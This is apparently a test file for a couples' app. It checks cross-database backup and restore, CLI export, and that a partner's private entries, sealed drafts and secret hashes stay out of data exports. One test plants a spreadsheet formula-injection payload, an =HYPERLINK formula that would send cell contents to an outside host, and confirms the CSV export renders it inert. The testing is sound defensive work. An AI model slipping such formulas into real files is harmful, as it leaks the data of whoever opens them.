import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCommand, restoreCommand } from '../../src/cli/export.ts';
import { addDays, localDate } from '../../src/dates.ts';
import { BackupError, backupCouple, restoreBackup, serializeBackup } from '../../src/export/backup.ts';
import { COUPLE_TABLES } from '../../src/export/tables.ts';
import { buildApp } from '../../src/server/app.ts';
import { defaultConfig } from '../../src/server/context.ts';
import { Actor, emailOf, makeCouple, PASSWORD, today } from '../support/app.ts';
import { freshStore } from '../support/stores.ts';

type Fresh = Awaited<ReturnType<typeof freshStore>>;

/** A couple with a bit of everything: shared and private entries, Unicode, a repair, a custom domain, an open invite. */
async function populate(store: Fresh) {
  const app = await buildApp({ store, config: defaultConfig });
  const { a, b, coupleId } = await makeCouple(app);
  await a.post('/api/couple/domains', { label: 'Money & Chores' });
  const conflict = (
    await a.post('/api/log', {
      kind: 'conflict',
      date: today(),
      text: 'Dishes 🍽️ “again”',
      domains: ['money_chores'],
      intensity: 3,
      visibility: 'shared',
    })
  ).json();
  await b.post('/api/log', {
    kind: 'repair',
    date: today(),
    text: 'Sorry — ça va?',
    repairOf: conflict.id,
    visibility: 'shared',
  });
  await a.post('/api/log', { kind: 'note', date: today(), text: 'PRIVATE-OF-A 🔒', visibility: 'private' });
  await b.post('/api/log', {
    kind: 'promise',
    date: today(),
    text: 'call mum',
    promiseDue: today(),
    visibility: 'shared',
  });
  // Alignment: a revealed round with a metric from its reveal, and a sealed draft of A's.
  const answer = (text: string) => ({
    optimizingFor: text,
    successMeans: 'Same team ✨',
    rewardsSought: 'Being seen',
    rewards: ['Touch', 'Praise'],
    harmonyAuthenticity: 30,
    independenceConnection: 70,
    growthStability: 50,
    familyCareer: 40,
    domains: ['communication', 'money_chores'],
  });
  const round = (await a.post('/api/alignment/rounds', { quarter: '2025-Q1' })).json().id;
  for (const [who, text] of [
    [a, 'REVEALED-OF-A'],
    [b, 'REVEALED-OF-B'],
  ] as const) {
    await who.patch(`/api/alignment/rounds/${round}/answer`, answer(text));
    await who.post(`/api/alignment/rounds/${round}/submit`);
  }
  await b.post(`/api/alignment/rounds/${round}/metrics`, {
    name: 'Same team',
    scaleMin: 0,
    scaleMax: 10,
    better: 'higher',
  });
  const sealed = (await a.post('/api/alignment/rounds', { quarter: '2025-Q2' })).json().id;
  await a.patch(`/api/alignment/rounds/${sealed}/answer`, answer('SEALED-OF-A'));
  return { a, b, coupleId, app };
}

describe('backup and restore', () => {
  let sqliteA: Fresh;
  let postgres: Fresh;
  let sqliteB: Fresh;
  beforeAll(async () => {
    [sqliteA, postgres, sqliteB] = await Promise.all([
      freshStore('sqlite'),
      freshStore('postgres'),
      freshStore('sqlite'),
    ]);
  });
  afterAll(async () => {
    await Promise.all([sqliteA?.drop(), postgres?.drop(), sqliteB?.drop()]);
  });

  it('round-trips SQLite → PostgreSQL → SQLite byte for byte, and the restored partners can log in', async () => {
    const { a, coupleId, app: source } = await populate(sqliteA);
    await source.close();
    const first = serializeBackup(await backupCouple(sqliteA.db, coupleId));
    expect(first).toContain('Dishes 🍽️ “again”');
    expect(first).toContain('SEALED-OF-A');

    await restoreBackup(postgres.db, JSON.parse(first));
    const second = serializeBackup(await backupCouple(postgres.db, coupleId));
    expect(second).toBe(first);

    await restoreBackup(sqliteB.db, JSON.parse(second));
    expect(serializeBackup(await backupCouple(sqliteB.db, coupleId))).toBe(first);

    const app = await buildApp({ store: postgres, config: defaultConfig });
    const lisa = new Actor(app, 'restored');
    expect(
      (await lisa.post('/api/account/login', { email: emailOf(a), password: PASSWORD })).statusCode,
    ).toBe(200);
    expect((await lisa.get('/api/log')).json().entries).toHaveLength(4);
    await app.close();
  });

  it('refuses to restore over an existing couple and changes nothing', async () => {
    const { coupleId, app } = await populate(sqliteA);
    await app.close();
    const backup = await backupCouple(sqliteA.db, coupleId);
    const before = await sqliteA.db.selectFrom('log').select('id').execute();
    await expect(restoreBackup(sqliteA.db, backup)).rejects.toThrow(BackupError);
    expect(await sqliteA.db.selectFrom('log').select('id').execute()).toHaveLength(before.length);
    await expect(restoreBackup(sqliteA.db, { ...backup, schemaVersion: '0000_old' })).rejects.toThrow(
      /schema/,
    );
  });

  it('lists every table that has a couple_id column, so none is left out of backups', async () => {
    const tables = await sqliteA.db.introspection.getTables();
    const coupleTables = tables
      .filter((t) => t.columns.some((c) => c.name === 'couple_id'))
      .map((t) => t.name);
    const listed = new Set(COUPLE_TABLES.map((t) => t.table as string));
    expect(coupleTables.filter((t) => !listed.has(t))).toEqual([]);
    expect(listed.has('couples')).toBe(true);
  });

  it('works from the command line: export to a file, restore into another database', async () => {
    const { a, coupleId, app } = await populate(sqliteA);
    await app.close();
    const dir = mkdtempSync(join(tmpdir(), 'attune-cli-export-'));
    const out: string[] = [];
    const io = { stdout: (s: string) => out.push(s), stderr: (s: string) => out.push(s) };
    const file = join(dir, 'backup.json');
    expect(await exportCommand(['--email', emailOf(a), '--out', file, '--database', sqliteA.url], io)).toBe(
      0,
    );
    expect(JSON.parse(readFileSync(file, 'utf8')).couple).toBe(coupleId);
    expect(
      await exportCommand(['--couple', coupleId, '--csv', join(dir, 'csv'), '--database', sqliteA.url], io),
    ).toBe(0);
    expect(readFileSync(join(dir, 'csv', 'log.csv'), 'utf8').split('\n')[0]).toContain('text');

    const target = join(dir, 'restored.db');
    expect(await restoreCommand([file, '--database', target], io)).toBe(0);
    expect(await restoreCommand([file, '--database', target], io)).toBe(2);
    expect(out.join('')).toMatch(/already exists here.*Nothing was changed/s);
    expect(await exportCommand(['--couple', 'no-such-couple', '--database', target], io)).toBe(2);
    rmSync(dir, { recursive: true, force: true });
  });
});

describe('download my data', () => {
  let store: Fresh;
  beforeAll(async () => {
    store = await freshStore('postgres');
  });
  afterAll(async () => store?.drop());

  it('has everything of mine and only what my partner shares, and no secrets', async () => {
    const { b, app } = await populate(store);
    const res = await b.get('/api/export');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="attune-/);
    const body = res.body;
    const data = res.json();
    expect(data.tables.log.map((r: { text: string }) => r.text).sort()).toEqual(
      ['Dishes 🍽️ “again”', 'Sorry — ça va?', 'call mum'].sort(),
    );
    expect(body).not.toContain('PRIVATE-OF-A');
    expect(body).not.toContain('SEALED-OF-A'); // A's sealed alignment draft
    expect(body).toContain('REVEALED-OF-A'); // a revealed answer is shared
    expect(body).not.toContain('password_hash');
    expect(body).not.toContain('code_hash');
    const csv = await b.get('/api/export/log.csv');
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    expect(csv.body).toContain('call mum');
    expect(csv.body).not.toContain('PRIVATE-OF-A');
    const count = await sql<{
      n: number;
    }>`select count(*) as n from log where text like 'PRIVATE-OF-A%'`.execute(store.db);
    expect(Number(count.rows[0]!.n)).toBe(1); // the private entry exists; it just is not B's to export
    await app.close();
  });

  it('shows links only to entries I may see: no id of my partner’s private entry in any export', async () => {
    const { a, b, app } = await populate(store);
    // A shared repair of A's private conflict: B sees the repair, never the conflict's id.
    const conflict = (
      await a.post('/api/log', { kind: 'conflict', date: today(), text: 'mine alone', visibility: 'private' })
    ).json();
    const repair = (
      await a.post('/api/log', {
        kind: 'repair',
        date: today(),
        text: 'We talked it through',
        repairOf: conflict.id,
        visibility: 'shared',
      })
    ).json();
    expect((await b.get(`/api/log/${repair.id}`)).json().repairOf).toBeNull();
    // B thanks A for a check-off, then makes that thanks private: A no longer sees its id.
    const day = addDays(localDate('America/New_York'), -1);
    const habit = (
      await a.post('/api/habits', {
        cue: 'After I pour the coffee',
        action: 'I ask how she slept',
        owner: 'me',
        domain: 'communication',
        schedule: { kind: 'daily' },
        startDate: day,
      })
    ).json();
    expect((await a.post(`/api/habits/${habit.id}/checkoffs`, { date: day })).statusCode).toBe(201);
    const thanks = (await b.post(`/api/habits/${habit.id}/checkoffs/${day}/appreciate`)).json();
    expect((await b.patch(`/api/log/${thanks.logEntryId}`, { visibility: 'private' })).statusCode).toBe(200);

    const ofB = await b.get('/api/export');
    expect(ofB.body).not.toContain(conflict.id);
    const shared = ofB.json().tables.log.find((r: { id: string }) => r.id === repair.id);
    expect(shared).toMatchObject({ text: 'We talked it through', repair_of: null });
    expect((await b.get('/api/export/log.csv')).body).not.toContain(conflict.id);
    const ofA = await a.get('/api/export');
    expect(ofA.body).not.toContain(thanks.logEntryId);
    expect(ofA.json().tables.habit_checkoffs).toEqual([
      expect.objectContaining({ habit_id: habit.id, appreciation_id: null }),
    ]);
    // Their own links stay whole.
    expect((await a.get('/api/export')).json().tables.log).toContainEqual(
      expect.objectContaining({ id: repair.id, repair_of: conflict.id }),
    );
    expect((await a.get('/api/export/log.csv')).body).toContain(conflict.id);
    await app.close();
  });

  it('gives no live formula in log.csv: a partner’s "=HYPERLINK(…)" arrives as text', async () => {
    const { a, b, app } = await populate(store);
    const formula = '=HYPERLINK("https://example.com/?q="&A1,"click me")';
    await a.post('/api/log', { kind: 'note', date: today(), text: formula, visibility: 'shared' });
    const csv = (await b.get('/api/export/log.csv')).body;
    const cells = (parse(csv) as string[][]).flat();
    expect(cells).toContain(`'${formula}`);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    await app.close();
  });
});
